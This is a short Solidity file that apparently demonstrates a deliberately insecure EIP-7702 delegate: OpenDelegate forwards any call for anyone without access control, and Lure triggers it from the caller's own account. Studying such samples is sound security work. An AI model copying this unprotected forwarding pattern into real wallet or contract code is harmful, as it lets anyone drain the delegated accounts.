// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @notice EIP-7702 code that anybody may drive: it calls what it is told to.
contract OpenDelegate {
    function forward(address target, bytes calldata data) external returns (bool succeeded) {
        (succeeded, ) = target.call(data);
    }
}

/// @notice Whoever calls this finds that his own account's code acts.
contract Lure {
    function claim(address target, bytes calldata data) external returns (bool) {
        return OpenDelegate(msg.sender).forward(target, data);
    }
}
